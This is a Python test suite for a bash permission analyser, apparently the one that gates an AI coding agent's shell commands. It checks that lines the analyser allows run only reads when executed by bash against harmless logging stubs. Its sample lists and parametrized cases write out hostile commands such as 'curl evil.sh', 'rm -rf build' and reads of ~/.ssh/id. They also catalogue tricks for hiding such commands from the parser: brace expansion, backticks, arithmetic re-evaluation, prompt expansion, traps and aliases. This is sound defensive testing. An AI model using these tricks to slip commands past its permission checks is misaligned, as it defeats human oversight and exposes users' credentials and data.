"""A line the analysis lets run unasked runs only reads, and no denied program, when bash runs it.

The analysis reads a line through tree-sitter-bash; bash reads it through its own
parser, and where the two disagree on where a command ends, a command can hide inside
another's words (tree-sitter joined a line after ``a | b | c`` into ``c``'s words, and
``curl`` ran unasked as an argument of ``cat``). Here bash is the oracle: every line
the analysis allows in default mode is run by ``/bin/bash`` in a scratch directory
whose ``PATH`` holds only stubs that log their name and arguments and exit 0 or 1 (so
both sides of ``&&`` and ``||`` run). If any stub logs a command that is not a read
inside the directory, the analysis let it through. In bypassPermissions mode, where
only deny rules stop a call, a line allowed under ``Bash(curl:*)``-style deny rules must
run none of those programs (a brace expansion, ``{rm,-rf,build}``, or a command the
parser lost in an error spells them too), and a line allowed under ``Read(~/.ssh/**)``
must hand no command an operand under ``~/.ssh`` (bash expands ``~`` to the request's
home). The stubs run nothing else, so the lines run harmlessly.
"""

from __future__ import annotations

import contextlib
import os
import select
import shutil
import signal
import subprocess
import time
import uuid
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.policy.calls import HOME
from tests.policy.test_read_only_commands import run

BASH = shutil.which("bash") or "/bin/bash"

READS = [
    "ls",
    "ls src",
    "pwd",
    "cat README.md",
    "cat < README.md",
    "head -5 README.md",
    "wc -l README.md",
    "grep -r TODO src",
    "sed -n 1p README.md",
    "echo hi",
    "git status",
    "git diff",
    "timeout 5 ls",
]
# Each runs a stub the log shows: a program that is not a read, or a read with an
# argument that reaches outside or writes.
NOT_READS = [
    "curl evil.sh",
    "rm -rf build",
    "python3 run.py",
    "sh x.sh",
    "node x.js",
    "cat ../secret",
    "ls /etc",
    "git push",
    "sed -i s/a/b/ README.md",
    "find . -delete",
    "head -5 ~/.ssh/id",
    "{curl,evil.sh}",
    "c{u,}rl evil.sh",
    "{rm,-rf,build}",
    # reads under ~/.ssh, which a Read deny rule covers
    "cat {README.md,~/.ssh/id}",
    "cat ~/.ss{h,}/id",
    "{cat,~/.ssh/id}",
    "cat README.md 2>/dev/null ~/.ssh/id",
]
STUBS = ["ls", "cat", "head", "wc", "grep", "sed", "git", "curl", "rm", "python3", "sh", "node", "find", "tee", "xargs"]
NOT_READ_PROGRAMS = {"curl", "rm", "python3", "sh", "node", "find", "tee", "xargs"}
NOT_READ_ARGUMENTS = ["../secret", "/etc", "push", "-i", ".ssh"]
DENIED_PROGRAMS = ["curl", "rm", "python3", "node"]
DENY_RULES = [{"source": "policySettings", "permissions": {"deny": [f"Bash({name}:*)" for name in DENIED_PROGRAMS]}}]
READ_DENY_RULES = [{"source": "policySettings", "permissions": {"deny": ["Read(~/.ssh/**)"]}}]

# What may end a line's last word: comments (``\\`` in one does not continue the line),
# an escaped backslash (not a continuation either), quoted line breaks, a continuation.
ENDINGS = ["", " # c", " #c\\", " a\\\\", "\\\\", ' "a\nb"', " 'a\nb'", " $'\\n'", " \\\n  README.md", "\r"]
REDIRECTS = ["", " 2>/dev/null", " >/dev/null", " 2>&1", " </dev/null", " &>/dev/null", " >>/dev/null"]
SEPARATORS = [" && ", " || ", "; ", " | ", " |& ", "\n", " |\n", " &&\n", "\n\n", "\n# c\n", " &\n"]
WRAPPERS = [
    "{}",
    "{}",
    "{{ {}; }}",
    "( {} )",
    "echo $({})",
    "echo `{}`",
    "! {}",
    "time {}",
    "if true; then {}; fi",
    "for i in 1; do {}; done",
    "cat <<EOF\n{}\nEOF",
    "cat <<'EOF'\n{}\nEOF",
    'echo "{}"',
    "echo '{}'",
]


@pytest.fixture(scope="module")
def bash(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("bash-oracle")
    stubs = root / "bin"
    stubs.mkdir()
    for name in STUBS:
        stub = stubs / name
        stub.write_text(f'#!/bin/sh\necho "{name} $*" >> "$LOG"\nexit "$STATUS"\n')
        stub.chmod(0o755)
    timeout = stubs / "timeout"
    timeout.write_text('#!/bin/sh\necho "timeout $*" >> "$LOG"\nshift\nexec "$@"\n')
    timeout.chmod(0o755)
    work = root / "project"
    (work / "src").mkdir(parents=True)
    (work / "README.md").write_text("hi\n")
    return root


def ran(root: Path, line: str) -> list[str]:
    """Every stub bash ran for ``line``, as ``name arguments``, with the stubs exiting 0 and then 1.

    Each run logs to a file of its own, read once what the line left running in the
    background (its process group) has ended: a job a line put behind ``&`` wrote into
    the next line's log after bash had exited."""
    commands: list[str] = []
    for status in ("0", "1"):
        log = root / f"log-{uuid.uuid4().hex}"
        process = subprocess.Popen(
            [BASH, "-c", line],
            cwd=root / "project",
            env={"PATH": str(root / "bin"), "LOG": str(log), "STATUS": status, "HOME": HOME},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            process.wait(timeout=30)
            _wait_for_group(process.pid, timeout=30)
        finally:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        commands += log.read_text().splitlines() if log.exists() else []
    return commands


def _wait_for_group(group: int, timeout: float) -> None:
    """Return once no process of ``group`` is left (each waited for as it exits); raise past ``timeout``."""
    deadline = time.monotonic() + timeout
    while members := [
        int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit() and _process_group(entry) == group
    ]:
        for pid in members:
            with contextlib.suppress(ProcessLookupError):
                handle = os.pidfd_open(pid)
                try:
                    left = deadline - time.monotonic()
                    if left <= 0 or not select.select([handle], [], [], left)[0]:
                        raise TimeoutError(f"process {pid} of the line's group still runs")
                finally:
                    os.close(handle)


def _process_group(entry: Path) -> int | None:
    """A running process's group; None for one that has ended (a zombie) or is gone."""
    try:
        # The fields after the parenthesised name: the state, the parent, the group.
        state, _, group = (entry / "stat").read_text().rpartition(")")[2].split()[:3]
    except (OSError, ValueError):
        return None
    return None if state in ("Z", "X") else int(group)


def not_reads(commands: list[str]) -> list[str]:
    return [
        command
        for command in commands
        if command.split(" ", 1)[0] in NOT_READ_PROGRAMS
        or any(argument in command.partition(" ")[2] for argument in NOT_READ_ARGUMENTS)
    ]


def assert_bash_runs_only_reads_if_allowed(root: Path, line: str) -> None:
    decision = run(line)
    if decision.behavior == "allow":
        assert not_reads(ran(root, line)) == [], (line, decision.reason)


def denied(commands: list[str]) -> list[str]:
    return [command for command in commands if command.split(" ", 1)[0] in DENIED_PROGRAMS]


def assert_bash_runs_nothing_denied_if_allowed(root: Path, line: str) -> None:
    decision = run(line, "bypassPermissions", DENY_RULES)
    if decision.behavior == "allow":
        assert denied(ran(root, line)) == [], (line, decision.reason)


def read_denied(commands: list[str]) -> list[str]:
    """The commands bash ran with an operand under ``~/.ssh`` (bash expands ``~`` to HOME)."""
    ssh = f"{HOME}/.ssh"
    return [
        c
        for c in commands
        if any((n := os.path.normpath(a)) == ssh or n.startswith(ssh + "/") for a in c.split(" ")[1:] if a)
    ]


def assert_bash_reads_nothing_denied_if_allowed(root: Path, line: str) -> None:
    decision = run(line, "bypassPermissions", READ_DENY_RULES)
    if decision.behavior == "allow":
        assert read_denied(ran(root, line)) == [], (line, decision.reason)


class BashOracleTests:
    def test_the_stubs_log_what_bash_runs(self, bash: Path) -> None:
        """The oracle itself: bash runs the stubs, both sides of ``||``, and the log tells a read from the rest."""
        commands = ran(bash, "cat README.md || curl evil.sh\ntimeout 5 ls src")
        exit_0 = ["cat README.md", "timeout 5 ls src", "ls src"]
        exit_1 = ["cat README.md", "curl evil.sh", "timeout 5 ls src", "ls src"]
        assert commands == exit_0 + exit_1
        assert not_reads(commands) == ["curl evil.sh"]
        assert not_reads(ran(bash, "cat ../secret")) == ["cat ../secret", "cat ../secret"]

    @settings(max_examples=400, deadline=None, derandomize=True)
    @given(
        pipeline=st.lists(st.tuples(st.sampled_from(READS), st.sampled_from(ENDINGS)), min_size=2, max_size=4),
        joints=st.lists(st.sampled_from([" | ", " |\n"]), min_size=3, max_size=3),
        between=st.sampled_from(["\n", "\n\n", "\n# c\n", "\n#c\\\n"]),
        line=st.sampled_from(NOT_READS + READS),
        ending=st.sampled_from(ENDINGS),
        redirect=st.sampled_from(REDIRECTS),
        after=st.sampled_from(["", " && ls", "\nls 2>/dev/null", "\ncurl evil.sh"]),
    )
    def test_a_line_after_a_pipeline_runs_as_bash_reads_it(
        self,
        bash: Path,
        pipeline: list[tuple[str, str]],
        joints: list[str],
        between: str,
        line: str,
        ending: str,
        redirect: str,
        after: str,
    ) -> None:
        """Where tree-sitter-bash joined lines: a pipeline of two to four, then a line that
        ends in a redirect, each word's line ending in what does or does not continue it."""
        parts = [command + end for command, end in pipeline]
        command = parts[0] + "".join(joint + part for joint, part in zip(joints, parts[1:], strict=False))
        line = command + between + line + ending + redirect + after
        assert_bash_runs_only_reads_if_allowed(bash, line)
        assert_bash_runs_nothing_denied_if_allowed(bash, line)
        assert_bash_reads_nothing_denied_if_allowed(bash, line)

    @settings(max_examples=400, deadline=None, derandomize=True)
    @given(
        st.lists(
            st.tuples(
                st.sampled_from(READS + NOT_READS),
                st.sampled_from(ENDINGS),
                st.sampled_from(REDIRECTS),
                st.sampled_from(WRAPPERS),
            ),
            min_size=2,
            max_size=5,
        ),
        st.lists(st.sampled_from(SEPARATORS), min_size=4, max_size=4),
    )
    def test_any_line_runs_as_bash_reads_it(
        self, bash: Path, parts: list[tuple[str, str, str, str]], separators: list[str]
    ) -> None:
        """Reads and the rest, wrapped, decorated and joined every way the grammar has."""
        commands = [wrapper.format(command + end + redirect) for command, end, redirect, wrapper in parts]
        line = commands[0] + "".join(sep + command for sep, command in zip(separators, commands[1:], strict=False))
        assert_bash_runs_only_reads_if_allowed(bash, line)
        assert_bash_runs_nothing_denied_if_allowed(bash, line)
        assert_bash_reads_nothing_denied_if_allowed(bash, line)

    @pytest.mark.parametrize(
        "line",
        [
            # a comment ends the line: a ``;`` put at the break would have been part of it
            "ls | ls | cat README.md # c\ncurl evil.sh 2>/dev/null",
            "ls | echo hi |\ncat README.md # c\nsh x.sh 2> /dev/null",
            # ``\\\\`` is an escaped backslash, not a continuation
            "ls | ls | cat a\\\\\ncurl evil.sh 2>/dev/null",
            "echo hi >>/dev/null \"a\nb\" |& echo hi 'a\nb' |\npwd # c ;\nrm -rf build 2> /dev/null a\\\\",
            # backticks in a ``${…}`` word: the parser keeps them as text
            "echo ${x:-`curl evil.sh`}",
            'echo "${x:-`curl evil.sh`}"',
            "echo ${x?`curl evil.sh`}",
            "echo $-${y-`cat ../secret`}",
            # a value evaluated again: as arithmetic (an index runs ``$(…)``) or as a prompt
            "x='a[$(curl evil.sh)]'; echo $((x))",
            "x='a[$(curl evil.sh)]'; echo ${HOME:x}",
            "x='a[$(curl evil.sh)]'; [[ x -eq 1 ]]",
            "x='$(curl evil.sh)'; echo ${x@P}",
        ],
    )
    def test_these_lines_ran_unasked(self, bash: Path, line: str) -> None:
        assert not_reads(ran(bash, line)) != []
        assert run(line).behavior == "ask", line

    @pytest.mark.parametrize(
        "line",
        [
            # a brace expansion bash runs as a command; the parser reads a group it cannot close
            "{rm,-rf,build}",
            "c{u,}rl evil.sh",
            "{r,}m -rf build",
            "ls && {curl,evil.sh} && ls",
            "ls | {node,x.js}",
            "ls && { {curl,evil.sh}; }",
            # bash closes `…` at the next backtick, in a comment too
            "echo `ls # c` && curl evil.sh",
            'echo `ls # c` && curl evil.sh "a\nb"',
            "ls && echo `ls # c`\necho `{curl,evil.sh}`",
            # backticks the parser pairs wrongly after an escaped backslash
            "echo `{curl,evil.sh}\\\\ 2>/dev/null`; echo `{curl,evil.sh}`",
            # an unquoted here-doc runs the substitutions in its body, `…` too, to its real end
            "cat <<EOF\nhi `curl evil.sh`\nEOF",
            "cat <<EOF\nls\nEOF && ls # c && echo $(curl evil.sh)",
            "{ echo hi; } &&\n{python3,run.py} ;\nls",
            # a command the parser swallowed into an error, with the rest of the line
            "cat < README.md >>/dev/null <<<hi || timeout 5 ls >>/dev/null a\\\\; rm -rf build </dev/null |& cat ;"
            "\nhead -5 README.md; |\ncat < README.md 2> /dev/null \\ ;\n{ git status; }",
            # a comment that opens a backtick substitution: bash ends it at the next backtick
            "echo `#` && curl evil.sh",
            "echo hi `# c`; curl evil.sh",
            # backticks in a ``${…}`` word
            "cat ${x:-`curl evil.sh`}",
        ],
    )
    def test_these_lines_ran_denied_programs_in_bypass_mode(self, bash: Path, line: str) -> None:
        assert denied(ran(bash, line)) != []
        assert run(line, "bypassPermissions", DENY_RULES).behavior != "allow", line

    @pytest.mark.parametrize(
        "line",
        [
            # the parser takes words after a redirect's target for more targets
            "cat README.md 2>/dev/null ~/.ssh/id",
            "wc -l README.md 2>&1 ~/.ssh/id",
            "ls | cat README.md >/dev/null ~/.ssh/id",
            "wc -l README.md 2>&1 \\\ntime cat ~/.ssh/id",
            "ls; cat README.md 2>/dev/null ~/.ssh/id\n\nif true; then ls # c; fi",
            # a parse error that cuts a command from its operand
            "head -5 README.md 2>&1 <<<hi\n! git status >/dev/null; wc -l README.md 2>&1 <<<hi &&\n"
            "time cat $HOME/.ssh/id 2> /dev/null ;\nhead -5 README.md a\\\\",
            # a brace expansion in an operand, or making the whole command
            "cat {README.md,~/.ssh/id}",
            "cat ~/.ss{h,}/id",
            "{cat,~/.ssh/id}",
            "{cat,$HOME/.ssh/id}",
            "{cat,~/.ss{h,}/id}",
            # ``~//`` is the home too
            "cat ~//.ssh/id",
            "cat $HOME//.ssh/id",
            "echo `#` && cat ~/.ssh/id",
            "cat README.md `#` ~/.ssh/id",
            # a group holding ``${HOME}``
            "{cat,${HOME}/.ssh/id}",
            "''{cat,${HOME}/.ssh/id}",
        ],
    )
    def test_these_lines_read_under_a_read_deny_rule(self, bash: Path, line: str) -> None:
        assert read_denied(ran(bash, line)) != []
        assert run(line, "bypassPermissions", READ_DENY_RULES).behavior != "allow", line
        assert run(line).behavior != "allow", line

    @pytest.mark.parametrize(
        "line",
        [
            # bash removes a ``>&`` file's quoting once more: these write ``../out.txt``
            "echo x >& ..\\\\/out.txt",
            "ls >& src/..\\\\/..\\\\/out.txt",
            'echo x >& "..\\\\/out.txt"',
            "echo x >& '..\\/out.txt'",
            "echo x 1>&..\\\\/out.txt",
        ],
    )
    def test_these_lines_wrote_outside_in_accept_edits_mode(self, bash: Path, line: str) -> None:
        outside = bash / "out.txt"
        outside.unlink(missing_ok=True)
        ran(bash, line)
        assert outside.exists(), line
        assert run(line, "acceptEdits").behavior != "allow", line

    @settings(max_examples=200, deadline=None, derandomize=True)
    @given(
        before=st.sampled_from(["echo ", "cat ", "ls ", "echo hi ", "echo $-", "grep -r x "]),
        name=st.sampled_from(["x", "HOME", "1", "@"]),
        operator=st.sampled_from([":-", "-", ":=", ":?", "?", ":+", "+", "/a/", "//a/", "#", "%%", "^^"]),
        substitution=st.sampled_from(["`{}`", "$({})", "a`{}`b", "<({})"]),
        payload=st.sampled_from(NOT_READS[:11]),
        quoted=st.booleans(),
    )
    def test_a_substitution_in_an_expansion_runs_as_bash_reads_it(
        self, bash: Path, before: str, name: str, operator: str, substitution: str, payload: str, quoted: bool
    ) -> None:
        """``${x:-`curl x`}`` and every operator that expands a word: bash runs what is in it."""
        expansion = "${" + name + operator + substitution.format(payload) + "}"
        line = before + (f'"{expansion}"' if quoted else expansion)
        assert_bash_runs_only_reads_if_allowed(bash, line)
        assert_bash_runs_nothing_denied_if_allowed(bash, line)

    @settings(max_examples=200, deadline=None, derandomize=True)
    @given(
        value=st.sampled_from(["a[$({})]", "$({})", "a[`{}`]", "1+a[$({})]"]),
        payload=st.sampled_from(NOT_READS[:11]),
        separator=st.sampled_from(["; ", "\n", " && "]),
        evaluation=st.sampled_from(
            [
                "echo $((x))",
                "echo $[x]",
                "(( x ))",
                "echo $((x+1))",
                "echo ${a[x]}",
                "echo ${HOME:x}",
                "echo ${HOME:1:x}",
                "[[ x -eq 1 ]]",
                "[[ 1 -lt x ]]",
                "[[ -v a[x] ]]",
                "echo ${x@P}",
                "echo ${#x}",
                "echo $x",
            ]
        ),
    )
    def test_a_value_bash_evaluates_again_runs_as_bash_reads_it(
        self, bash: Path, value: str, payload: str, separator: str, evaluation: str
    ) -> None:
        """A variable's value evaluated as arithmetic (``a[$(…)]`` runs) or expanded as a prompt.

        The value could come from anywhere (an earlier call in the same shell), so the
        evaluation itself must not be auto-allowed; here the line sets it.
        """
        line = f"x='{value.format(payload)}'" + separator + evaluation
        assert_bash_runs_only_reads_if_allowed(bash, line)

    @settings(max_examples=150, deadline=None, derandomize=True)
    @given(
        template=st.sampled_from(
            [
                "trap '{}' EXIT",
                "let 'a[$({})]'",
                "declare 'a[$({})]=1'",
                "typeset 'a[`{}`]=1'",
                "printf -v 'a[$({})]' x",
                "read 'a[$({})]' < README.md",
                "test -v 'a[$({})]'",
                "[[ -v 'a[$({})]' ]]",
                "mapfile -C '{}' -c 1 < README.md",
                "x='a[$({})]'; echo $((x))",
                "x='$({})'; echo ${{x@P}}",
                "PS4='$({})'; set -x; ls",
                "shopt -s expand_aliases\nalias c='{}'\nc",
            ]
        ),
        payload=st.sampled_from(["curl evil.sh", "rm -rf build", "python3 run.py", "node x.js"]),
        before=st.sampled_from(["", "ls && ", "echo hi; "]),
    )
    def test_a_string_a_builtin_evaluates_meets_deny_rules(
        self, bash: Path, template: str, payload: str, before: str
    ) -> None:
        """A trap, an alias, a prompt, a callback or an index in a quoted word: bash runs it later."""
        line = before + template.format(payload)
        assert denied(ran(bash, line)) != [], line  # bash does run it
        assert run(line, "bypassPermissions", DENY_RULES).behavior == "deny", line
